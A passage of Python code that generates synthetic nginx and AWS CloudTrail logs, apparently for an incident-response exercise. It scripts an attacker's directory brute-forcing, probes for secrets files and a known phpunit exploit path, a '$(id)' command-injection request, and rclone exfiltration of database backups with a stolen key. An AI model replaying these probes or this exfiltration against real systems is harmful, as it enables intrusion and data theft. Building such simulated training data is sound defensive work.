SEARCHES = ["decaf", "french+press", "matcha", "ethiopia", "grinder", "gift",
            "oolong", "kettle", "espresso", "sencha"]
ASSETS = [("/build/runtime.2a8e1b7f.js", 1288), ("/build/app.5e7c1f2a.css", 9877),
          ("/build/app.c04b9d31.js", 41502),
          ("/build/images/logo.8a1b3c4d.svg", 3214)]
PAGE_BYTES = {"home": 14230, "category": 12100, "product": 10650,
              "search": 9400, "cart": 7720, "checkout": 9050, "payment": 8610,
              "confirmation": 7340, "login": 5912, "account": 6880}
# the shop's hours, UTC (customers are mostly in central Europe)
HOUR_WEIGHT = [0.15, 0.1, 0.08, 0.08, 0.1, 0.2, 0.4, 0.7, 0.9, 1.0, 1.0, 1.1,
               1.2, 1.1, 1.0, 1.0, 1.1, 1.2, 1.4, 1.5, 1.4, 1.1, 0.7, 0.35]

GOBUSTER_WORDS = [
    "_profiler", "admin", "administrator", "api", "app", "assets", "backup",
    "backups", "bin", "build", "cache", "cart", "cgi-bin", "checkout",
    "config", "console", "cron", "dashboard", "data", "database", "db",
    "debug", "dev", "dump", "export", "files", "images", "img", "import",
    "include", "includes", "install", "lib", "log", "login", "logs", "media",
    "old", "panel", "phpinfo", "private", "public", "search", "server-status",
    "setup", "shop", "sql", "src", "static", "storage", "system", "temp",
    "test", "tmp", "upload", "uploads", "user", "users", "var", "vendor",
    "web", "wp-admin", "wp-content", "wp-includes", "xmlrpc",
]
GOBUSTER_EXT = ["", ".php", ".bak", ".zip", ".sql"]
# what the shop answers for the bare words that exist (everything else: 404)
GOBUSTER_HITS = {"admin": (401, NGX_401), "build": (301, NGX_301),
                 "media": (301, NGX_301), "cart": (200, PAGE_BYTES["cart"]),
                 "checkout": (302, SF_REDIRECT),
                 "login": (200, PAGE_BYTES["login"]),
                 "search": (200, PAGE_BYTES["search"])}
TLS_HELLO = (r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03\x8C\x1E\xB7\x02"
             r"\xD4\x9A\x11")


def clf_time(ts: datetime, tz) -> str:
    lt = ts.astimezone(tz)
    return (f"{lt.day:02d}/{MONTHS[lt.month - 1]}/{lt.year}:"
            f"{lt:%H:%M:%S} {lt:%z}")


class AccessLog:
    """Lines of one nginx access log (log_format combined), written in the
    order the requests finished."""

    def __init__(self, rel: str, tz):
        self.rel, self.tz, self.rows = rel, tz, []

    def add(self, ts, ip, req, status, size, ref="-", ua="-", user="-",
            tags=()):
        if isinstance(tags, str):
            tags = (tags,)
        self.rows.append((ts, len(self.rows),
                          f'{ip} - {user} [{clf_time(ts, self.tz)}] "{req}" '
                          f'{status} {size} "{ref}" "{ua}"', tuple(tags)))

    def render(self):
        rows = sorted(self.rows, key=lambda r: (r[0], r[1]))
        tagged: dict[str, list] = {}
        for n, r in enumerate(rows, 1):
            for tg in r[3]:
                tagged.setdefault(tg, []).append((self.rel, n))
        return "\n".join(r[2] for r in rows) + "\n", tagged


def page_bytes(rng, kind):
    return PAGE_BYTES[kind] + rng.randint(-400, 400)


def customer_ip(rng) -> str:
    if rng.random() < 0.1:
        return (f"2001:db8:{rng.randint(0x1000, 0x8fff):x}:"
                f"{rng.randint(1, 0xffff):x}::{rng.randint(1, 0xffff):x}")
    return f"198.{rng.choice([18, 19])}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def pick(rng, weighted):
    total = sum(w for *_, w in weighted)
    x = rng.random() * total
    for item in weighted:
        x -= item[-1]
        if x < 0:
            return item
    return weighted[-1]


def shop_session(log, rng, t, ip, ua, seen_imgs, orders):
    """One visit: a landing page with its assets, then a few more pages,
    sometimes a cart and a checkout."""
    proto = "HTTP/2.0"
    returning = bool(seen_imgs)
    ref = rng.choice(["-", "-", "-", "https://www.google.com/",
                      "https://www.google.com/", "https://duckduckgo.com/",
                      "https://www.bing.com/", "https://www.ecosia.org/"])
    r = rng.random()
    if r < 0.35:
        kind, path, prod = "home", "/", None
    elif r < 0.6:
        kind, path, prod = "category", "/category/" + rng.choice(CATEGORIES), None
    else:
        prod = rng.choice(PRODUCTS)
        kind, path = "product", "/product/" + prod[0]
    pages = rng.choice([1, 1, 2, 2, 3, 3, 3, 4, 5, 6])
    in_cart = False
    for i in range(pages):
        log.add(t, ip, f"GET {path} {proto}", 200, page_bytes(rng, kind), ref, ua)
        url = SHOP + path
        a = t
        # hashed assets are cached for a year: only a first visit fetches
        # them; the favicon is revalidated (304)
        if i == 0 and not returning:
            for asset, size in ASSETS:
                a += sec(0.04 + rng.random() * 0.2)
                log.add(a, ip, f"GET {asset} {proto}", 200, size, url, ua)
            log.add(a + sec(0.3), ip, f"GET /favicon.ico {proto}", 200, 4286,
                    url, ua)
        elif i == 0:
            log.add(a + sec(0.3), ip, f"GET /favicon.ico {proto}", 304, 0, url, ua)
        if kind == "product":
            imgs = [prod]
        elif kind in ("home", "category", "search"):
            imgs = rng.sample(PRODUCTS, 2)
        else:
            imgs = []
        for slug, size in imgs:
            a += sec(0.05 + rng.random() * 0.3)
            if (slug, size) not in seen_imgs:
                log.add(a, ip, f"GET /media/cache/product_card/{slug}.webp "
                        f"{proto}", 200, size, url, ua)
                seen_imgs.add((slug, size))
        t += sec(rng.uniform(6, 75))
        ref = url
        if kind == "product" and not in_cart and rng.random() < 0.25:
            pid = 101 + PRODUCTS.index(prod)
            log.add(t, ip, f"POST /cart/add/{pid} {proto}", 302, SF_REDIRECT,
                    url, ua)
            t += sec(0.2 + rng.random() * 0.3)
            log.add(t, ip, f"GET /cart {proto}", 200, page_bytes(rng, "cart"),
                    url, ua)
            log.add(t + sec(0.4), ip, f"GET /api/cart/count {proto}", 200, 27,
                    SHOP + "/cart", ua)
            in_cart = True
            t += sec(rng.uniform(10, 60))
            if rng.random() < 0.35:
                steps = [("GET /checkout", 200, page_bytes(rng, "checkout"),
                          SHOP + "/cart"),
                         ("POST /checkout", 302, SF_REDIRECT, SHOP + "/checkout"),
                         ("GET /checkout/payment", 200, page_bytes(rng, "payment"),
                          SHOP + "/checkout"),
                         ("POST /checkout/payment", 302, SF_REDIRECT,
                          SHOP + "/checkout/payment"),
                         (f"GET /order/confirmation/{next(orders)}", 200,
                          page_bytes(rng, "confirmation"),
                          SHOP + "/checkout/payment")]
                for k, (req, st, size, rf) in enumerate(steps):
                    log.add(t, ip, f"{req} {proto}", st, size, rf, ua)
                    t += sec(rng.uniform(0.3, 1.0) if st == 302 else
                             rng.uniform(20, 120))
                return
            ref = SHOP + "/cart"
        r = rng.random()
        if r < 0.5:
            prod = rng.choice(PRODUCTS)
            kind, path = "product", "/product/" + prod[0]
        elif r < 0.75:
            kind, path = "category", "/category/" + rng.choice(CATEGORIES)
        elif r < 0.92:
            kind, path = "search", "/search?q=" + rng.choice(SEARCHES)
        else:
            kind, path = "home", "/"


def web_access_log(ctx: Context):
    rng = R("nginx")
    log = AccessLog(F_ACCESS, UTC)
    span = (END - START).total_seconds()

    # customers
    clients = [(customer_ip(rng), pick(rng, UA_BROWSERS)[0]) for _ in range(55)]
    starts = []
    while len(starts) < 92:
        t = START + sec(rng.random() * span)
        if rng.random() * 1.5 < HOUR_WEIGHT[t.hour]:
            starts.append(t)
    cache: dict[str, set] = {}      # what each browser has cached
    orders = itertools.count(10412)
    for t in sorted(starts):
        ip, ua = rng.choice(clients)
        shop_session(log, rng, t, ip, ua, cache.setdefault(ip, set()), orders)

    # crawlers: robots.txt and the sitemap once a day, pages in between
    for day in (at("2026-03-12 00:00:00"), at("2026-03-13 00:00:00"),
                at("2026-03-14 00:00:00")):
        for ua, mk, _ in BOTS:
            t = day + sec(rng.randint(600, 20000))
            ip = mk(rng)
            log.add(t, ip, "GET /robots.txt HTTP/1.1", 200, 112, "-", ua)
            log.add(t + sec(rng.uniform(2, 30)), ip, "GET /sitemap.xml HTTP/1.1",
                    200, 2488, "-", ua)
    t = START + sec(rng.randint(300, 1800))
    while t < END:
        ua, mk, _ = pick(rng, BOTS)
        ip = mk(rng)
        r = rng.random()
        if r < 0.5:
            req, st, size = (f"GET /product/{rng.choice(PRODUCTS)[0]} HTTP/1.1",
                             200, page_bytes(rng, "product"))
        elif r < 0.75:
            req, st, size = (f"GET /category/{rng.choice(CATEGORIES)} HTTP/1.1",
                             200, page_bytes(rng, "category"))
        elif r < 0.85:
            req, st, size = (f"GET /p/{rng.randint(20, 99)} HTTP/1.1", 301,
                             SF_REDIRECT)
        elif r < 0.95:
            req, st, size = ("GET /product/" + rng.choice(
                ["cold-brew-bottle-1l", "chai-masala-100g", "ibrik-copper"]) +
                " HTTP/1.1", 404, SF_404)
        else:
            req, st, size = "GET / HTTP/1.1", 200, page_bytes(rng, "home")
        log.add(t, ip, req, st, size, "-", ua)
        t += sec(rng.randint(1000, 3600))

    # internet background noise (all from 192.0.2.0/24)
    noise = [
        ("GET / HTTP/1.1", 200, None, "Mozilla/5.0 zgrab/0.x"),
        ("GET /.env HTTP/1.1", 403, NGX_403, "Mozilla/5.0 (Windows NT 10.0; "
         "Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129"
         " Safari/537.36"),
        ("POST /boaform/admin/formLogin HTTP/1.1", 404, SF_404,
         "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:76.0) Gecko/20100101 "
         "Firefox/76.0"),
        ("GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country="
         "$(id) HTTP/1.1", 404, SF_404, "Go-http-client/1.1"),
        (TLS_HELLO, 400, NGX_400, "-"),
        ("GET /actuator/gateway/routes HTTP/1.1", 404, SF_404,
         "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 "
         "Firefox/115.0"),
        ("GET /.git/config HTTP/1.1", 403, NGX_403, "Mozilla/5.0 (X11; Linux "
         "x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
         "Safari/537.36"),
        ("HEAD / HTTP/1.1", 200, 0, "curl/8.5.0"),
        ("GET /owa/auth/logon.aspx HTTP/1.1", 404, SF_404, "Mozilla/5.0 "
         "(compatible; CensysInspect/1.1; +https://about.censys.io/)"),
        ("GET /favicon.ico HTTP/1.1", 200, 4286, "Mozilla/5.0 (compatible; "
         "InternetMeasurement/1.0; +https://internet-measurement.com/)"),
    ]
    t = START + sec(rng.randint(900, 6000))
    tls_done = False
    while t < END:
        if at("2026-03-14 01:40:00") < t < at("2026-03-14 02:15:00"):
            t += sec(3600)      # keep the recon window easy to read
            continue
        req, st, size, ua = rng.choice(noise)
        if req == TLS_HELLO:
            if tls_done:
                req, st, size, ua = noise[0]
            tls_done = True
        if size is None:
            size = page_bytes(rng, "home")
        log.add(t, f"192.0.2.{rng.randint(100, 250)}", req, st, size, "-", ua,
                tags="web_tls" if req == TLS_HELLO else ())
        t += sec(rng.randint(3600, 11000))

    # CI: a smoke test after every deploy (php8.2-fpm reload on web-01)
    for r in ctx.ci_reloads:
        log.add(r + sec(1.2 + rng.random()), CI_IP, "GET /healthz HTTP/1.1", 200,
                2, "-", "curl/7.88.1", tags="web_ci")
        log.add(r + sec(1.6 + rng.random()), CI_IP, "GET / HTTP/1.1", 200,
                page_bytes(rng, "home"), "-", "curl/7.88.1", tags="web_ci")

    # alice looks at pending orders in the admin area (nginx basic auth)
    for t0 in (at("2026-03-12 10:21:07.418330"), at("2026-03-13 09:41:33.092114")):
        ref = SHOP + "/admin/"
        log.add(t0, ALICE_WS, "GET /admin/ HTTP/2.0", 401, NGX_401, "-",
                UA_EDGE_WIN, tags="web_alice")
        t = t0 + sec(4.2 + rng.random() * 3)
        log.add(t, ALICE_WS, "GET /admin/ HTTP/2.0", 200, 8812, "-",
                UA_EDGE_WIN, user="alice", tags="web_alice")
        t += sec(rng.uniform(5, 20))
        log.add(t, ALICE_WS, "GET /admin/orders?status=pending HTTP/2.0", 200,
                11873 + rng.randint(-300, 300), ref, UA_EDGE_WIN, user="alice",
                tags="web_alice")
        t += sec(rng.uniform(20, 60))
        log.add(t, ALICE_WS, f"GET /admin/orders/{10380 + rng.randint(0, 30)} "
                "HTTP/2.0", 200, 9120 + rng.randint(-200, 200),
                SHOP + "/admin/orders?status=pending", UA_EDGE_WIN, user="alice",
                tags="web_alice")

    # ---- the attacker's reconnaissance, before the SSH brute force ----
    rng = R("nginx-recon")
    A = ATTACKER_IP
    t = at("2026-03-14 01:52:07.311842")
    log.add(t, A, "GET / HTTP/1.1", 200, 14230, "-", UA_ATTACKER,
            tags=("web_recon_first", "web_recon"))
    for k, (asset, size) in enumerate(ASSETS):
        log.add(t + sec(0.3 + k * 0.08), A, f"GET {asset} HTTP/1.1", 200, size,
                SHOP + "/", UA_ATTACKER, tags="web_recon")
    log.add(t + sec(0.9), A, "GET /favicon.ico HTTP/1.1", 200, 4286, SHOP + "/",
            UA_ATTACKER, tags="web_recon")
    log.add(t + sec(21.4), A, "GET /robots.txt HTTP/1.1", 200, 112, "-",
            UA_ATTACKER, tags="web_recon")
    log.add(t + sec(33.0), A, "GET /sitemap.xml HTTP/1.1", 200, 2488, "-",
            UA_ATTACKER, tags="web_recon")
    # gobuster dir -u https://shop.example.com -w common.txt -x php,bak,zip,sql
    #   -t 2 --delay 500ms
    t = at("2026-03-14 01:54:02.308117")
    log.add(t, A, "GET /6d1f2b64-3c9e-4c1a-9a57-1f0c8e3d2b7a HTTP/1.1", 404,
            SF_404, "-", UA_GOBUSTER, tags=("web_dirbust", "web_recon"))
    for w in GOBUSTER_WORDS:
        for ext in GOBUSTER_EXT:
            t += sec(rng.uniform(0.35, 0.7))
            if ext == "" and w in GOBUSTER_HITS:
                st, size = GOBUSTER_HITS[w]
            elif ext == ".php":
                st, size = 404, NGX_404          # location ~ \.php$ { return 404; }
            else:
                st, size = 404, SF_404           # falls through to the shop
            log.add(t, A, f"GET /{w}{ext} HTTP/1.1", st, size, "-", UA_GOBUSTER,
                    tags=("web_dirbust", "web_recon"))
    # by hand, in a browser
    probes = [
        ("01:58:12.402271", "GET /wp-login.php", 404, NGX_404, "web_wplogin"),
        ("01:58:19.873002", "GET /xmlrpc.php", 404, NGX_404, ()),
        ("01:58:31.118450", "GET /.env", 403, NGX_403, ()),
        ("01:58:40.650219", "GET /.git/config", 403, NGX_403, ()),
        ("01:58:52.307781", "GET /phpmyadmin/", 404, SF_404, ()),
        ("01:59:05.944120", "GET /vendor/phpunit/phpunit/src/Util/PHP/"
         "eval-stdin.php", 404, NGX_404, ()),
        ("01:59:20.031877", "GET /_profiler/phpinfo", 404, SF_404, ()),
        ("01:59:41.562330", "GET /login", 200, PAGE_BYTES["login"], ()),
    ]
    for hms, req, st, size, tg in probes:
        tags = ("web_recon",) + ((tg,) if tg else ())
        log.add(at("2026-03-14 " + hms), A, f"{req} HTTP/1.1", st, size, "-",
                UA_ATTACKER, tags=tags)
    t = at("2026-03-14 01:59:58.210554")
    for k in range(3):
        log.add(t, A, "POST /login HTTP/1.1", 302, SF_REDIRECT, SHOP + "/login",
                UA_ATTACKER, tags="web_recon")
        log.add(t + sec(0.21), A, "GET /login HTTP/1.1", 200,
                PAGE_BYTES["login"] + 96, SHOP + "/login", UA_ATTACKER,
                tags="web_recon")
        t += sec(rng.uniform(9, 15))
    # basic-auth guesses on /admin/ (nginx logs the user name it was sent)
    t = at("2026-03-14 02:01:05.772301")
    for user in ("-", "admin", "admin", "deploy"):
        log.add(t, A, "GET /admin/ HTTP/1.1", 401, NGX_401, "-", UA_ATTACKER,
                user=user, tags=("web_recon", "web_basic_auth"))
        t += sec(rng.uniform(5, 11))
    # does the log viewer escape?  (the same strings later go to sshd)
    log.add(at("2026-03-14 02:03:17.050912"), A, "GET / HTTP/1.1", 200, 14230,
            "-", HOSTILE_SCRIPT, tags=("web_recon", "web_hostile"))
    # nginx 1.22 rejects the space in the target with 400 before reading the
    # headers, so the user agent is "-"; the request line is logged as sent
    log.add(at("2026-03-14 02:03:41.663019"), A,
            f"GET /search?q={HOSTILE_CSV} HTTP/1.1", 400, NGX_400, "-", "-",
            tags=("web_recon", "web_hostile"))
    return log.render()


LEGACY_PATHS = [  # the old shop's URLs -> their new home
    ("/shop/kaffee/", "/category/coffee"), ("/shop/tee/", "/category/tea"),
    ("/shop/zubehoer/", "/category/accessories"),
    ("/produkt/yirgacheffe.html", "/product/ethiopia-yirgacheffe-250g"),
    ("/produkt/aeropress.html", "/product/aeropress-go"),
    ("/produkt/sencha.html", "/product/sencha-uji-100g"),
    ("/produkt/handmuehle.html", "/product/burr-grinder-c40"),
    ("/", "/"), ("/agb.html", "/terms"), ("/kontakt.html", "/contact"),
]


def legacy_access_log():
    """The old shop's redirect service: an nginx container on web-01 whose
    TZ is Europe/Berlin, so its log carries +0100."""
    rng = R("nginx-cet")
    log = AccessLog(F_ACCESS_CET, CET)
    span = (END - START).total_seconds()
    times = sorted(START + sec(rng.random() * span) for _ in range(40))
    # two visits just after local midnight (their UTC date is a day earlier)
    times += [at("2026-03-12 23:41:09.220187"), at("2026-03-13 23:12:09.604412")]
    for t in times:
        r = rng.random()
        if r < 0.5:
            ip, ua = customer_ip(rng), pick(rng, UA_BROWSERS)[0]
            proto = "HTTP/2.0"
        else:
            ua, mk, _ = pick(rng, BOTS)
            ip, proto = mk(rng), "HTTP/1.1"
        if rng.random() < 0.1:
            log.add(t, ip, f"GET /robots.txt {proto}", 200, 67, "-", ua)
            continue
        old, new = rng.choice(LEGACY_PATHS)
        if rng.random() < 0.08:
            log.add(t, ip, f"GET /produkt/{rng.choice(['kanne', 'filter-102'])}"
                    f".html {proto}", 404, NGX_404, "-", ua)
            continue
        log.add(t, ip, f"GET {old} {proto}", 301, NGX_301, "-", ua)
    # the attacker looked here first
    A = ATTACKER_IP
    for hms, req, st, size in [
            ("01:49:51.330127", "GET / HTTP/1.1", 301, NGX_301),
            ("01:49:58.902411", "GET /robots.txt HTTP/1.1", 200, 67),
            ("01:50:03.114270", "GET /.git/HEAD HTTP/1.1", 404, NGX_404),
            ("01:50:09.657003", "GET /admin/ HTTP/1.1", 404, NGX_404)]:
        log.add(at("2026-03-14 " + hms), A, req, st, size, "-", UA_ATTACKER,
                tags="cet_recon")
    return log.render()


# ---- AWS CloudTrail -------------------------------------------------------

ACCOUNT = "111122223333"              # AWS's documentation account id
BUCKET = "acme-db-backups"
REGION = "eu-central-1"
BACKUP_KEY = "AKIAIOSFODNN7EXAMPLE"   # AWS's documentation example key id
S3_HOST = f"{BUCKET}.s3.{REGION}.amazonaws.com"
CLI = "aws-cli/2.22.35 Python/3.12.6"
UA_BACKUP = f"{CLI} Linux/6.1.0-31-amd64 exe/x86_64.debian.12 prompt/off"
UA_KALI = f"{CLI} Linux/6.12.13-amd64 exe/x86_64.kali.2025 prompt/off"
UA_RCLONE = "rclone/v1.69.1"
UA_S3CONSOLE = ("S3Console/0.4, aws-internal/3 aws-sdk-java/1.12.750 "
                "Linux/5.10.233-202.893.amzn2int.x86_64 "
                "OpenJDK_64-Bit_Server_VM/25.432-b06 java/1.8.0_432 "
                "vendor/Oracle_Corporation cfg/retry-mode/standard")
B32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"


def ct_uuid(rng) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def ct_time(ts: datetime) -> str:
    return ts.strftime("%Y-%m-%dT%H:%M:%SZ")


class Trail:
    def __init__(self):
        self.rng = R("cloudtrail")
        self.records = []    # (ts, order, record, tags)

    def iam_user(self, name, principal, key=None, console_since=None):
        u = {"type": "IAMUser", "principalId": principal,
             "arn": f"arn:aws:iam::{ACCOUNT}:user/{name}", "accountId": ACCOUNT}
        if key:
            u["accessKeyId"] = key
        u["userName"] = name
        if console_since:
            u["sessionContext"] = {
                "sessionIssuer": {}, "webIdFederationData": {},
                "attributes": {"creationDate": ct_time(console_since),
                               "mfaAuthenticated": "true"}}
        return u

    def s3_extra(self, bytes_in=0, bytes_out=0):
        rng = self.rng
        return {"SignatureVersion": "SigV4",
                "CipherSuite": "TLS_AES_128_GCM_SHA256",
                "bytesTransferredIn": bytes_in,
                "AuthenticationMethod": "AuthHeader",
                "x-amz-id-2": base64.b64encode(
                    bytes(rng.getrandbits(8) for _ in range(56))).decode(),
                "bytesTransferredOut": bytes_out}

    def add(self, ts, who, source, name, region, ip, ua, *, req=None,
            resp=None, extra=None, read_only=True, data=False, resources=None,
            error=None, host=None, request_id=True, event_type="AwsApiCall",
            console=False, tags=()):
        rng = self.rng
        r = {"eventVersion": "1.10" if data else "1.09", "userIdentity": who,
             "eventTime": ct_time(ts), "eventSource": source, "eventName": name,
             "awsRegion": region, "sourceIPAddress": ip, "userAgent": ua}
        if error:
            r["errorCode"], r["errorMessage"] = error
        r["requestParameters"] = req
        r["responseElements"] = resp
        if extra is not None:
            r["additionalEventData"] = extra
        if request_id:
            r["requestID"] = ("".join(rng.choice("0123456789ABCDEF")
                                      for _ in range(16))
                              if source == "s3.amazonaws.com" else ct_uuid(rng))
        r["eventID"] = ct_uuid(rng)
        r["readOnly"] = read_only
        if resources:
            r["resources"] = resources
        r["eventType"] = event_type
        r["managementEvent"] = not data
        r["recipientAccountId"] = ACCOUNT
        r["eventCategory"] = "Data" if data else "Management"
        if host:
            r["tlsDetails"] = {"tlsVersion": "TLSv1.3",
                               "cipherSuite": "TLS_AES_128_GCM_SHA256",
                               "clientProvidedHostHeader": host}
        if console:
            r["sessionCredentialFromConsole"] = "true"
        if isinstance(tags, str):
            tags = (tags,)
        self.records.append((ts, len(self.records), r, tuple(tags)))

    def render(self):
        recs = sorted(self.records, key=lambda x: (x[0], x[1]))
        text = json.dumps({"Records": [x[2] for x in recs]}, indent=2,
                          ensure_ascii=True) + "\n"
        starts = record_start_lines(text)
        tagged: dict[str, list] = {}
        for i, x in enumerate(recs):
            for tg in x[3]:
                tagged.setdefault(tg, []).append((F_TRAIL, starts[i]))
        return text, tagged


def record_start_lines(text: str) -> list[int]:
    """1-based line numbers of the `{` that opens each record (indent 4)."""
    return [n for n, ln in enumerate(text.split("\n"), 1) if ln == "    {"]


def s3_resources(key=None):
    res = []
    if key:
        res.append({"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::{BUCKET}/{key}"})
    res.append({"accountId": ACCOUNT, "type": "AWS::S3::Bucket",
                "ARN": f"arn:aws:s3:::{BUCKET}"})
    return res


def backup_key(d: int) -> str:
    return f"db-01/2026-03-{d:02d}/all-databases.sql.gz"


def cloudtrail(ctx: Context):
    tr = Trail()
    rng = tr.rng
    alice_id = "AIDA" + "".join(rng.choice(B32) for _ in range(10)) + "EXAMPLE"
    bot_id = "AIDA" + "".join(rng.choice(B32) for _ in range(10)) + "EXAMPLE"
    sizes = {d: 212_400_000 + d * 610_000 + rng.randint(-150_000, 150_000)
             for d in range(1, 15)}
    bot = tr.iam_user("backup-bot", bot_id, BACKUP_KEY)

    def console(t_login):
        key = "ASIA" + "".join(rng.choice(B32) for _ in range(9)) + "EXAMPLE"
        tr.add(t_login, tr.iam_user("alice", alice_id), "signin.amazonaws.com",
               "ConsoleLogin", "us-east-1", NAT_IP, UA_EDGE_WIN,
               resp={"ConsoleLogin": "Success"},
               extra={"LoginTo": "https://console.aws.amazon.com/console/home?"
                      "state=hashArgs%23&isauthcode=true",
                      "MobileVersion": "No",
                      "MFAIdentifier": f"arn:aws:iam::{ACCOUNT}:mfa/alice",
                      "MFAUsed": "Yes"},
               read_only=False, request_id=False, event_type="AwsConsoleSignIn",
               host="signin.aws.amazon.com",
               tags="ct_alice_login" if t_login.day == 14 else ())
        return tr.iam_user("alice", alice_id, key, console_since=t_login)

    # ---- normal activity: alice in the console, Thursday and Friday ----
    t = at("2026-03-12 11:02:17")
    al = console(t)
    tr.add(t + sec(41), al, "s3.amazonaws.com", "ListBuckets", "us-east-1",
           NAT_IP, f"[{UA_S3CONSOLE}]", req={"Host": "s3.amazonaws.com"},
           extra=tr.s3_extra(bytes_out=1189), host="s3.amazonaws.com",
           console=True)
    tr.add(t + sec(53), al, "s3.amazonaws.com", "GetBucketVersioning", REGION,
           NAT_IP, f"[{UA_S3CONSOLE}]",
           req={"versioning": "", "bucketName": BUCKET, "Host": S3_HOST},
           extra=tr.s3_extra(bytes_out=113), resources=s3_resources(),
           host=S3_HOST, console=True)
    tr.add(t + sec(67), al, "s3.amazonaws.com", "GetBucketLifecycle", REGION,
           NAT_IP, f"[{UA_S3CONSOLE}]",
           req={"lifecycle": "", "bucketName": BUCKET, "Host": S3_HOST},
           extra=tr.s3_extra(bytes_out=402), resources=s3_resources(),
           host=S3_HOST, console=True)
    tr.add(t + sec(84), al, "s3.amazonaws.com", "ListObjects", REGION, NAT_IP,
           f"[{UA_S3CONSOLE}]",
           req={"list-type": "2", "bucketName": BUCKET, "encoding-type": "url",
                "max-keys": "300", "fetch-owner": "true", "prefix": "db-01/",
                "delimiter": "/", "Host": S3_HOST},
           extra=tr.s3_extra(bytes_out=3318), data=True,
           resources=s3_resources(), host=S3_HOST, console=True)
    tr.add(t + sec(165), al, "ce.amazonaws.com", "GetCostAndUsage", "us-east-1",
           NAT_IP, "AWS Internal",
           req={"timePeriod": {"start": "2026-03-01", "end": "2026-03-12"},
                "granularity": "DAILY", "metrics": ["UnblendedCost"]},
           console=True)
    t = at("2026-03-13 10:14:33")
    al = console(t)
    tr.add(t + sec(37), al, "iam.amazonaws.com", "ListUsers", "us-east-1",
           NAT_IP, "AWS Internal", host="iam.amazonaws.com", console=True)
    tr.add(t + sec(63), al, "iam.amazonaws.com", "ListAccessKeys", "us-east-1",
           NAT_IP, "AWS Internal", req={"userName": "backup-bot"},
           host="iam.amazonaws.com", console=True)
    tr.add(t + sec(89), al, "iam.amazonaws.com", "GetAccessKeyLastUsed",
           "us-east-1", NAT_IP, "AWS Internal", req={"accessKeyId": BACKUP_KEY},
           host="iam.amazonaws.com", console=True)

    # ---- normal activity: db-01's nightly backup upload ----
    for start, end in ctx.backups:
        d = start.day
        tr.add(end - sec(2.2 + rng.random()), bot, "s3.amazonaws.com",
               "PutObject", REGION, NAT_IP, f"[{UA_BACKUP} command/s3.cp]",
               req={"bucketName": BUCKET, "Host": S3_HOST, "key": backup_key(d)},
               resp={"x-amz-server-side-encryption": "AES256"},
               extra=tr.s3_extra(bytes_in=sizes[d]), read_only=False, data=True,
               resources=s3_resources(backup_key(d)), host=S3_HOST,
               tags="ct_backup_upload")

    # ---- the attacker, with backup-bot's key from bastion-01 ----
    A = ATTACKER_IP
    tr.add(at("2026-03-14 03:12:44"), bot, "sts.amazonaws.com",
           "GetCallerIdentity", REGION, A,
           f"{UA_KALI} command/sts.get-caller-identity",
           host=f"sts.{REGION}.amazonaws.com", tags=("ct_whoami", "ct_attacker"))
    tr.add(at("2026-03-14 03:13:09"), bot, "s3.amazonaws.com", "ListBuckets",
           REGION, A, f"[{UA_KALI} command/s3.ls]",
           req={"Host": f"s3.{REGION}.amazonaws.com"},
           extra=tr.s3_extra(bytes_out=1189), host=f"s3.{REGION}.amazonaws.com",
           tags=("ct_recon", "ct_attacker"))
    tr.add(at("2026-03-14 03:13:31"), bot, "s3.amazonaws.com", "ListObjects",
           REGION, A, f"[{UA_KALI} command/s3.ls]",
           req={"list-type": "2", "bucketName": BUCKET, "encoding-type": "url",
                "prefix": "", "Host": S3_HOST},
           extra=tr.s3_extra(bytes_out=4907), data=True,
           resources=s3_resources(), host=S3_HOST,
           tags=("ct_recon", "ct_attacker"))
    tr.add(at("2026-03-14 03:14:02"), bot, "s3.amazonaws.com", "ListObjects",
           REGION, A, f"[{UA_RCLONE}]",
           req={"list-type": "2", "bucketName": BUCKET, "encoding-type": "url",
                "max-keys": "1000", "prefix": "", "Host": S3_HOST},
           extra=tr.s3_extra(bytes_out=4907), data=True,
           resources=s3_resources(), host=S3_HOST,
           tags=("ct_recon", "ct_attacker"))
    # rclone copy, 4 transfers at a time, about 3 MB/s each
    workers = [at("2026-03-14 03:14:06.4")] * 4
    for d in range(1, 15):
        i = min(range(4), key=lambda k: workers[k])
        ts = workers[i]
        k = backup_key(d)
        tr.add(ts.replace(microsecond=0), bot, "s3.amazonaws.com", "GetObject",
               REGION, A, f"[{UA_RCLONE}]",
               req={"bucketName": BUCKET, "Host": S3_HOST, "key": k},
               extra=tr.s3_extra(bytes_out=sizes[d]), data=True,
               resources=s3_resources(k), host=S3_HOST,
               tags=("ct_exfil", "ct_attacker"))
        workers[i] = ts + sec(sizes[d] / (2.9e6 + rng.random() * 0.4e6) + 0.3)
    policy = {"Version": "2012-10-17", "Statement": [
        {"Sid": "PublicRead", "Effect": "Allow", "Principal": "*",
         "Action": "s3:GetObject", "Resource": f"arn:aws:s3:::{BUCKET}/*"}]}
    tr.add(at("2026-03-14 03:41:27"), bot, "s3.amazonaws.com", "PutBucketPolicy",
           REGION, A, f"[{UA_KALI} command/s3api.put-bucket-policy]",
           error=("AccessDenied", "Access Denied"),
           req={"bucketPolicy": policy, "bucketName": BUCKET, "Host": S3_HOST,
                "policy": ""},
           extra=tr.s3_extra(bytes_in=227), read_only=False,
           resources=s3_resources(), host=S3_HOST,
           tags=("ct_policy_denied", "ct_attacker"))
    # second visit, while the attacker is back on bastion-01
    tr.add(at("2026-03-14 08:35:14"), bot, "sts.amazonaws.com",
           "GetCallerIdentity", REGION, A,
           f"{UA_KALI} command/sts.get-caller-identity",
           host=f"sts.{REGION}.amazonaws.com", tags=("ct_return", "ct_attacker"))
    tr.add(at("2026-03-14 08:35:40"), bot, "s3.amazonaws.com", "ListObjects",
           REGION, A, f"[{UA_KALI} command/s3.ls]",
           req={"list-type": "2", "bucketName": BUCKET, "encoding-type": "url",
                "prefix": "db-01/2026-03-14/", "Host": S3_HOST},
           extra=tr.s3_extra(bytes_out=611), data=True,
           resources=s3_resources(), host=S3_HOST,
           tags=("ct_return", "ct_attacker"))

